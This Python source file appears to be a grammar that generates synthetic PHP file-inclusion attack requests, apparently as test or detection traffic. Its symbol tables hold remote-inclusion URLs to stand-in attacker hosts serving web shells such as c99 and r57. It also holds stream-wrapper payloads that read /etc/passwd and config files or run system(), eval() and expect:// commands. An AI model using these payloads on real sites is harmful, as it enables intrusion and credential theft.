"""File inclusion as whole request lines: a script of an old PHP application, a parameter that it
includes, and there a script elsewhere or a stream wrapper (PHP manual: supported protocols)."""

from traffic.grammars.attacks.pieces import Grammar, Symbols
from traffic.grammars.words.sites import application, host, script, script_path

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "php": script_path, "app": application, "file": script, "host": host,
    "sites": (
        "‹host›", "‹host›", "‹evil›", "‹evil›", "evilsite", "attacker", "evilhost", "yoursite",
        "[host]", "[attacker]", "‹ip›", "‹ip›:‹port›", "‹word›host", "site", "www.‹word›host.‹tld›",
    ),
    "shell": (
        "shell", "c99", "r57", "cmd", "evil", "x", "id", "test", "inject", "evilcode", "bad", "php",
        "evilscript", "r0x", "‹rnd›", "‹id›", "‹abc›", "sh", "pwn", "tool", "info", "echo",
    ),
    "folder": (
        "", "", "", "", "‹word›/", "~‹name›/", "‹rnd›/", "‹word›/‹word›/", "images/", "tmp/",
    ),
    "tail": (
        "?", "?", "?", "?", "??", "", "%00", "?&cmd=id", "?cmd=ls", "?‹abc›=", "???", "%3f", "\x00",
        "?&‹abc›=‹n›", "%23", "#",
    ),
    "far": (
        "http://‹sites›/‹folder›‹shell›.txt‹tail›", "http://‹sites›/‹folder›‹shell›.‹ext›‹tail›",
        "http://‹sites›/‹folder›‹shell›‹tail›", "http://‹sites›?", "http://‹sites›/?",
        "https://‹sites›/‹folder›‹shell›.‹ext›‹tail›", "ftp://‹sites›/‹folder›‹shell›.‹ext›‹tail›",
        "ftp://‹name›:‹rnd›@‹sites›/‹shell›.‹ext›", "//‹sites›/‹shell›.‹ext›‹tail›",
        "\\\\‹sites›\\‹word›\\‹shell›.‹ext›", "http%3A%2F%2F‹sites›%2F‹shell›.‹ext›%3F",
        "HTTP://‹sites›/‹shell›.‹ext›‹tail›", "http://‹sites›/‹file›‹tail›",
        "[‹evil¦attacker¦shell¦bad›‹_script¦code¦_code¦url¦_host›]‹tail›",
        "http://[‹word›]/‹shell›.txt?", "http://‹sites›/‹folder›‹shell›.txt?",
        "smb://‹sites›/‹shell›",
    ),
    "ext": ("txt", "txt", "txt", "php", "gif", "jpg", "inc", "dat", "png", "html", "cgi", "log"),
    "to": (
        "/etc/passwd", "index.php", "config.php", "‹id›.php", "../config.php", "/etc/‹id›.conf",
        "../../etc/passwd", "‹file›",
    ),
    "filter": (
        "convert.base64-encode", "string.rot13", "convert.iconv.utf-8.utf-16", "zlib.deflate",
        "read=convert.base64-encode", "convert.base64-decode", "string.toupper|string.rot13",
        "read=string.rot13|convert.base64-encode", "convert.quoted-printable-encode",
    ),
    "stream": (
        "php://input", "php://input?‹abc›=‹n›", "php://filter/‹filter›/resource=‹to›",
        "php://filter/read=‹filter›/resource=‹to›", "PHP://filter/‹filter›/resource=‹to›",
        "php://stdin", "php://fd/‹d›", "php://memory", "php://temp/maxmemory:‹n›",
        "data://text/plain;base64,‹b64›", "data:text/plain,<?php ‹call›?>", "data:;base64,‹b64›",
        "data://text/plain,<?php ‹call›; ?>", "data:text/plain;base64,‹b64s›==",
        "expect://‹cmd›", "expect://‹cmd›", "zip://‹to2›%23‹id›.php", "zip://‹to2›#‹abc›",
        "phar://‹to2›/‹id›.php", "phar://./‹to2›/‹abc›.txt", "compress.zlib://‹to2›",
        "compress.bzip2://‹to2›", "glob:///‹word›/*", "ssh2.exec://‹name›:‹rnd›@‹sites›/‹cmd›",
        "FILE:///etc/‹passwd¦hosts¦‹id››", "file://‹to›?‹abc›", "ogg://‹far›",
        "rar://‹to2›%23‹abc›.php",
    ),
    "to2": (
        "uploads/‹id›.jpg", "‹id›.zip", "/tmp/‹id›", "/var/www/‹word›/‹id›.png", "avatar‹n›.gif",
        "./‹word›.jpg", "../upload/‹id›.rar",
    ),
    "call": (
        "phpinfo()", "system('‹cmd›')", "system($_GET['‹abc›'])", "echo ‹n›", "eval($_POST[‹d›])",
    ),
    "cmd": (
        "id", "ls", "whoami", "uname -a", "cat /etc/passwd", "dir", "ls -la", "ps", "pwd", "env",
    ),
    "w": (
        "root", "base", "abs", "absolute", "site", "lib", "inc", "include", "includes", "home",
        "class", "classes", "template", "skin", "theme", "lang", "language", "config", "cfg",
        "module", "mod", "plugin", "source", "src", "main", "server", "document", "doc", "app",
        "board", "forum", "gallery", "admin", "component", "common", "core", "full", "relative",
        "script", "scripts", "install", "system", "tpl", "data", "global", "local", "‹word›",
    ),
    "p": (
        "‹w›_path", "‹w›_dir", "‹w›path", "‹w›dir", "‹w›Path", "‹w›Dir", "path_‹w›", "dir_‹w›",
        "‹w›_root", "‹w›_file", "‹w›", "‹w›", "path_to_‹w›", "‹app›_root", "‹app›_path",
        "‹w›_‹w›_path",
        "‹w›[path]", "‹w›[‹w›]", "CONFIG[‹w›]", "GLOBALS[‹w›]", "GLOBALS[‹w›_path]",
        "conf[‹w›_dir]",
        "_SERVER[DOCUMENT_ROOT]", "mosConfig_‹w›_path", "page", "file", "inc", "include", "content",
        "go", "cmd", "section", "document_root", "phpbb_root_path", "DIR", "PATH", "INC_DIR",
        "view",
        "‹w›_prefix", "‹w›_inc", "‹w›URL", "sourcedir", "rootDir", "header", "footer", "body", "pg",
    ),
    "more": ("", "", "", "‹id›=‹n›&", "id=‹n›&", "lang=‹abc›&", "action=‹word›&", "‹abc›=‹rnd›&"),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    remote_line=("‹php›?‹p›=‹far›", "‹php›?‹p›=‹far›", "‹php›?‹more›‹p›=‹far›"),
    remote_line_deep=(
        "/‹app›‹php›?‹p›=‹far›", "‹php›?‹more›‹p›=‹far›&‹id›=‹n›", "‹php›?‹p›=‹far›&‹p›=‹far›",
        "/‹word›‹php›?‹p›=‹far›", "/~‹name›‹php›?‹p›=‹far›",
    ),
    stream_line=("‹php›?‹p›=‹stream›", "‹php›?‹more›‹p›=‹stream›", "/‹file›?‹p›=‹stream›"),
    remote_pair=("‹p›=‹far›", "‹file›?‹p›=‹far›", "?‹p›=‹far›", "‹more›‹p›=‹far›", "&‹p›=‹far›"),
    stream=("‹stream›", "‹stream›", "‹p›=‹stream›", "‹stream›%00", "‹stream›", "?‹p›=‹stream›"),
)
